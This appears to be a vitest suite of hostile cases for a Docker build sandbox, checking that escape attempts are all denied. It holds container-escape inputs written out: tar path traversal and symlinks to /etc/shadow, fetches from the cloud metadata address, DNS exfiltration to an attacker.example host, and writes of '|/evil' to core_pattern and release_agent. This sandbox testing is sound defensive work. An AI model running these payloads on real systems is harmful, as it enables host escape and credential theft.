import { readFileSync } from 'node:fs';
import { readFile, readdir, stat } from 'node:fs/promises';
import { createServer, type AddressInfo } from 'node:net';
import { hostname, networkInterfaces } from 'node:os';
import { join } from 'node:path';
import { expect } from 'vitest';
import { testEnv } from '../sandbox-fixture.ts';
import { hostileCases, type HostileCase } from './cases.ts';
import { python, step } from './programs.ts';
import { tarFile } from './tar-file.ts';

const base = 'FROM debian:bookworm-slim\n';
const failed = { status: 'build-failed', failure: { phase: 'cold-build' } };
const graded = { status: 'graded' };
const ownAddress =
  Object.values(networkInterfaces())
    .flat()
    .find((address) => address?.internal === false)?.address ?? '127.0.0.1';
const hostCorePattern = readFileSync('/proc/sys/kernel/core_pattern', 'utf8');

// A host process that accepts connections on all of the host's addresses.
const listener = createServer((socket) => socket.end()).unref();
await new Promise<void>((resolve) => listener.listen(0, '::', resolve));
const { port } = listener.address() as AddressInfo;

/** All files that the shelf serves, with size and modification time. */
async function shelfFiles(dir: string): Promise<string[]> {
  const entries = (await readdir(join(dir, 'www'), { recursive: true, withFileTypes: true })).filter(
    (entry) => entry.isFile(),
  );
  return (
    await Promise.all(
      entries.map(async ({ parentPath, name }) => {
        const { size, mtimeMs } = await stat(join(parentPath, name));
        return `${parentPath}/${name} ${size} ${mtimeMs}`;
      }),
    )
  ).sort();
}
const shelfBefore = shelfFiles(testEnv().SHELF_DIR);

/** Prints "opened" for each attempt that succeeds and "denied" for each that fails. */
const attempts = (lines: string) => `import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
def attempt(name, work):
    try:
        print("opened", name, work())
    except Exception as error:
        print("denied", name, error)
def call(number, *arguments):
    result = libc.syscall(number, *arguments)
    if result < 0: raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result
def mount(kind, where, flags=0, data=None):
    os.makedirs(where, exist_ok=True)
    if libc.mount(b"none", where.encode(), kind.encode(), flags, data) < 0: raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
def write(path, text):
    with open(path, "w") as file: file.write(text)
${lines}`;

const nothingOpened: HostileCase['verify'] = ({ log }) => {
  expect(log).toContain('denied');
  expect(log).not.toMatch(/^opened/m);
};

const cases: HostileCase[] = [
  {
    number: '10',
    name: 'ADD of a tar with names that lead upwards or to the root',
    dockerfile: `${base}ADD x.tar /in/\nRUN find / -xdev -name 'hostile-*'\n`,
    files: {
      'x.tar': tarFile([
        { name: '../../../../../../hostile-up', type: '0', data: 'x' },
        { name: '/hostile-root', type: '0', data: 'x' },
      ]),
    },
    expected: { passed: false },
    verify: async ({ log }) => {
      expect(log).not.toMatch(/^\/hostile-up/m);
      await expect(stat('/hostile-up')).rejects.toThrow();
      await expect(stat('/hostile-root')).rejects.toThrow();
    },
  },
  {
    number: '10',
    name: 'ADD of a tar with links out of its folder, and files reached through them',
    dockerfile: `${base}ADD x.tar /in/\nRUN ls -l /in; cat /in/passwd\n`,
    files: {
      'x.tar': tarFile([
        { name: 'up', type: '2', link: '../../../../../../../../etc' },
        { name: 'up/hostile-behind', type: '0', data: 'x' },
        { name: 'passwd', type: '1', link: '/etc/shadow' },
      ]),
    },
    expected: { passed: false },
    verify: async () => expect(stat('/etc/hostile-behind')).rejects.toThrow(),
  },
  {
    number: '11',
    name: 'links to /etc, /proc and the disk where the image analysis reads',
    dockerfile: `${python}RUN rm -rf /var/lib/dpkg/status /etc/os-release /app; ln -s /etc/shadow /var/lib/dpkg/status; ln -s /proc/1/environ /etc/os-release; ln -s /data/docker /usr/local/lib/python3.11/site-packages/x.dist-info; ln -s /sock/docker.sock /app; ln -s / /root-link\n`,
    expected: graded,
    verify: ({ result }) => expect(JSON.stringify(result)).not.toContain(hostname()),
  },
  {
    number: '11',
    name: 'COPY through a link that leads out of the stage',
    dockerfile: `${base}RUN ln -s /../../../../../../sock /out; ln -s /proc/1/root /proc-out\nFROM debian:bookworm-slim\nCOPY --from=0 /out/docker.sock /x\n`,
    expected: failed,
  },
  {
    number: '13',
    name: 'RUN --security=insecure',
    dockerfile: `${base}RUN --security=insecure true\n`,
    expected: failed,
  },
  {
    number: '14',
    name: 'RUN --network=host',
    dockerfile: `${base}RUN --network=host true\n`,
    expected: failed,
  },
  {
    number: '14',
    name: 'RUN --device',
    dockerfile: `${base}RUN --device=nvidia.com/gpu=all true\n`,
    expected: failed,
  },
  ...[
    'http://169.254.169.254/latest/meta-data/',
    `http://${ownAddress}/`,
    'http://[fd00:ec2::254]/',
    'http://example.com/',
    'http://172.17.0.1:2375/info',
    'file:///etc/passwd',
    '--checksum=sha256:24454f830cdb571e2c4ad15481119c43b3cafd48dd869a9b2945d1036d1dc68d https://example.com/x',
  ].map((source): HostileCase => ({
    number: '16',
    name: `ADD ${source.replace(ownAddress, 'an address of the host')}`,
    dockerfile: `${base}ADD ${source} /x\n`,
    expected: failed,
  })),
  {
    number: '17',
    name: 'name lookups, also directly from servers',
    ...step(
      attempts(`attempt("lookup", lambda: socket.getaddrinfo("c2VjcmV0.attacker.example", 80))
def ask(server):
    query = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    query.settimeout(2)
    query.sendto(b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06secret\\x07example\\x00\\x00\\x01\\x00\\x01", (server, 53))
    return query.recv(100)
for server in ["172.17.0.1", "8.8.8.8", "127.0.0.11", "127.0.0.53"]: attempt(server, lambda: ask(server))
`),
    ),
    expected: graded,
    verify: nothingOpened,
  },
  ...[
    'https://github.com/docker/docs.git',
    'git@github.com:docker/docs.git',
    'http://172.17.0.1:61080/x.git#main:../../..',
  ].map((source): HostileCase => ({
    number: '18',
    name: `ADD ${source}`,
    dockerfile: `${base}ADD ${source} /x\n`,
    expected: failed,
  })),
  {
    number: '19',
    name: 'writing to the shelf and leaving its folder',
    ...step(
      attempts(`import http.client
def send(method, path):
    connection = http.client.HTTPConnection("172.17.0.1", 61080, timeout=10)
    connection.request(method, path, body=b"x" * 1000)
    answer = connection.getresponse()
    if answer.status >= 400: raise OSError(answer.status)
    return answer.read(200)
for method in ["PUT", "POST", "DELETE", "PATCH", "MKCOL"]:
    for path in ["/simple/pip/", "/v2/python/manifests/latest", "/new"]: attempt(f"{method} {path}", lambda: send(method, path))
for path in ["/../../../../etc/passwd", "/simple/../../images.json", "/%2e%2e/%2e%2e/images.json", "/simple/..%2f..%2f..%2fetc%2fpasswd", "//etc/passwd", "/\\x00", "/simple/%00"]: attempt(f"GET {path!a}", lambda: send("GET", path))
`),
    ),
    expected: graded,
    verify: async (observed, fixture) => {
      await nothingOpened(observed, fixture);
      expect(await shelfFiles(fixture.env.SHELF_DIR)).toEqual(await shelfBefore);
    },
  },
  {
    number: '20',
    name: 'any engine socket, by name, by mount and by process',
    dockerfile: `${base}RUN --mount=type=bind,source=/sock,target=/a true\n`,
    expected: failed,
  },
  {
    number: '20',
    name: 'sockets in the file system or the abstract namespace',
    dockerfile: `${base}RUN find / -xdev -type s -printf 'opened %p\\n'; grep -h @ /proc/net/unix | sed 's/^/opened /'; ls /sock /data /shelf 2>&1 | sed 's/^/denied /'\n`,
    expected: graded,
    verify: nothingOpened,
  },
  {
    number: '20',
    name: 'the sandbox through /proc',
    dockerfile: `${base}RUN for n in /proc/[0-9]*; do ls $n/root/sock 2>/dev/null | sed 's/^/opened /'; done; grep -E 'docker.sock|/sock' /proc/self/mounts | sed 's/^/opened /'; echo denied\n`,
    expected: graded,
    verify: nothingOpened,
  },
  {
    number: '23',
    name: 'device nodes',
    ...step(
      attempts(
        'for name, kind, number in [("sda", 0o60000, 0x800), ("vda", 0o60000, 0xfe00), ("mem", 0o20000, 0x101), ("kmsg", 0o20000, 0x10b), ("fuse", 0o20000, 0xae5), ("loop", 0o20000, 0xaed)]:\n    attempt(name, lambda: (os.mknod("/n" + name, kind | 0o666, number), open("/n" + name, "rb").read(1)))\n',
      ),
    ),
    expected: graded,
    verify: nothingOpened,
  },
  {
    number: '23',
    name: 'a device node in a tar of ADD',
    dockerfile: `${base}ADD x.tar /in/\nRUN head -c 1 /in/sda && echo opened\n`,
    files: { 'x.tar': tarFile([{ name: 'sda', type: '3', mode: 0o666 }]) },
    expected: failed,
  },
  {
    number: '23',
    name: 'setuid and file capabilities',
    dockerfile: `${python}RUN cp /bin/cat /bin/root-cat && chmod 6755 /bin/root-cat && useradd -m eve && su eve -c '/bin/root-cat /proc/1/environ /etc/shadow' | wc -c\n`,
    expected: graded,
  },
  {
    number: '24',
    name: 'ONBUILD in a stage',
    dockerfile: 'FROM debian:bookworm-slim AS base\nONBUILD RUN --network=host true\nFROM base\n',
    expected: failed,
  },
  {
    number: '24',
    name: 'WORKDIR upwards and into /proc',
    dockerfile: `${base}WORKDIR ../../../../../proc/1/root\nWORKDIR /proc/self/fd\nRUN ls ../../../../sock && echo opened\n`,
    expected: failed,
  },
  {
    number: '24',
    name: 'links at the engine’s mount points',
    dockerfile: `FROM scratch\nADD x.tar /\nCOPY --from=debian:bookworm-slim /usr /usr\nRUN ["/usr/bin/ls", "/"]\n`,
    files: {
      'x.tar': tarFile([
        { name: 'dev', type: '2', link: '/../../../../../../sock' },
        { name: 'proc', type: '2', link: '/usr' },
        { name: 'sys', type: '2', link: '../../../..' },
        { name: 'etc', type: '2', link: '/proc/1/root/etc' },
        { name: 'lib64', type: '2', link: 'usr/lib64' },
        { name: 'lib', type: '2', link: 'usr/lib' },
      ]),
    },
    expected: { passed: false },
    verify: async ({ sandbox }) => expect(sandbox).toBeDefined(),
  },
  {
    number: '37',
    name: 'other sandboxes and the host, by address and by abstract socket name',
    ...step(
      attempts(`for address, port in [("${ownAddress}", ${port}), ("127.0.0.1", ${port}), ("172.17.0.1", ${port}), ("172.17.0.1", 2375), ("172.17.0.2", 8000), ("172.17.0.3", 8000), ("10.0.2.2", 80)]:
    attempt(f"{address} {port}", lambda: socket.create_connection((address, port), timeout=2))
for name in ["\\0/tmp/.X11-unix/X0", "\\0/containerd-shim", "\\0dbus"]: attempt(repr(name), lambda: socket.socket(socket.AF_UNIX).connect(name))
`),
    ),
    expected: graded,
    verify: nothingOpened,
  },
  {
    number: '38',
    name: 'AF_ALG and AF_VSOCK',
    ...step(
      attempts(
        'for family, kind in [(38, 5), (40, 1), (40, 2)]: attempt(f"family {family}", lambda: socket.socket(family, kind))\n',
      ),
    ),
    expected: graded,
    verify: nothingOpened,
  },
  {
    number: '38',
    name: 'dangerous system calls',
    ...step(
      attempts(
        'for name, number in {"bpf": 321, "perf_event_open": 298, "kexec_load": 246, "init_module": 175, "finit_module": 313, "open_by_handle_at": 304, "userfaultfd": 323, "io_uring_setup": 425, "reboot": 169, "swapon": 167, "settimeofday": 164, "iopl": 172, "acct": 163, "quotactl": 179, "lookup_dcookie": 212, "kcmp": 312, "add_key of another": 248}.items():\n    attempt(name, lambda: call(number, 0, 0, 0, 0, 0))\n',
      ),
    ),
    expected: graded,
    verify: nothingOpened,
  },
  {
    number: '38',
    name: 'mounts and settings of the host',
    ...step(
      attempts(`for kind in ["proc", "sysfs", "cgroup", "cgroup2", "debugfs", "tracefs", "securityfs", "bpf", "devtmpfs", "binfmt_misc", "overlay", "tmpfs"]: attempt(f"mount {kind}", lambda: mount(kind, "/m/" + kind))
for path in ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger", "/proc/sys/vm/drop_caches", "/sys/kernel/uevent_helper", "/sys/fs/cgroup/release_agent", "/proc/sys/fs/binfmt_misc/register", "/proc/1/oom_score_adj"]: attempt(f"write {path}", lambda: write(path, "|/evil"))
attempt("kcore", lambda: open("/proc/kcore", "rb").read(1))
attempt("kmsg", lambda: open("/dev/kmsg", "rb").read(1))
`),
    ),
    expected: graded,
    verify: async (observed, fixture) => {
      await nothingOpened(observed, fixture);
      expect(await readFile('/proc/sys/kernel/core_pattern', 'utf8')).toBe(hostCorePattern);
    },
  },
  {
    number: '36',
    name: 'keyrings, inotify, user namespaces and System V memory until they are exhausted',
    ...step(
      attempts(`keys = 0
try:
    while keys < 100_000:
        call(248, b"user", b"k%d" % keys, b"x" * 16, 16, -2)
        keys += 1
except OSError as error: print("denied keys", keys, error)
try:
    instances = [libc.inotify_init() for _ in range(2_000)]
    print("denied inotify", sum(1 for one in instances if one < 0))
except OSError as error: print("denied inotify", error)
for n in range(300):
    if os.fork() == 0:
        libc.unshare(0x10000000)
        libc.unshare(0x10000000)
        import time; time.sleep(2); os._exit(0)
print("denied memory", sum(1 for _ in range(5_000) if libc.shmget(0, 4096, 0o1600) < 0))
`),
    ),
    expected: { status: expect.stringMatching(/graded|build-failed/) as string },
    verify: async (_observed, { pool }) => {
      // The next sandbox uses the same slot, and so the same UIDs.
      const next = await pool.acquire('next');
      expect((await next.engine.version()).Version).not.toBe('');
      await pool.release(next, 'discard');
    },
  },
];

hostileCases(cases);
